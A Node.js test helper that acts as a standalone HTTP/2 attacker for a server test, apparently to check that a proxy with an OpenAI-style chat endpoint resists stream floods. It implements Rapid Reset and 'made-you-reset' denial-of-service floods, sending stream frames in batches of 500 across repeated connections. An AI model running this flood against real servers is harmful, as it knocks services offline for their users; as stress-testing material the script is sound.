// Stand-alone attacker for hostile_client.test.mjs (run as a child process so that the test's
// own timing measurements are not disturbed by it):
//   node hostile_attack.mjs PORT MODE COUNT [PATH] [REPEAT_MS]
// MODE rapid-reset: HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL) per stream;
// MODE made-you-reset: HEADERS + DATA(END_STREAM) + WINDOW_UPDATE(stream, 0), which makes the
// server reset the stream itself. COUNT streams on one connection, written in batches of 500
// in as few writes as possible; stops early when the server closes the connection. With
// REPEAT_MS it opens a new connection and starts over until that many ms have passed.
// Prints one JSON line: {"connections":N,"streams_written":N,"closed":N,"goaway":N}.
import { connectH2, frames, requestHead } from './hostile_h2.mjs';

const [port, mode, countStr, path = '/openai/deployments/gpt-4o/chat/completions?api-version=2024-10-21', repeatStr = '0'] = process.argv.slice(2);
const count = Number(countStr);
const repeatMs = Number(repeatStr);
const body = JSON.stringify({ messages: [{ role: 'user', content: 'hello' }] });
const head = requestHead({ path });
const started = Date.now();
const out = { connections: 0, streams_written: 0, closed: 0, goaway: 0 };

do {
  const h2 = await connectH2(Number(port));
  ++out.connections;
  for (let i = 0; i < count && !h2.closed; i += 500) {
    const parts = [];
    for (let k = i; k < Math.min(count, i + 500); ++k) {
      const id = 1 + 2 * k;
      parts.push(frames.headers(id, head), frames.data(id, body));
      parts.push(mode === 'made-you-reset' ? frames.windowUpdate(id, 0) : frames.rst(id));
    }
    if (h2.closed) break;
    await h2.write(Buffer.concat(parts));
    out.streams_written += Math.min(count, i + 500) - i;
  }
  await h2.waitClosed(repeatMs ? 200 : 3000);
  if (h2.closed) ++out.closed;
  if (h2.goaway) ++out.goaway;
  h2.close();
} while (repeatMs && Date.now() - started < repeatMs);
console.log(JSON.stringify(out));
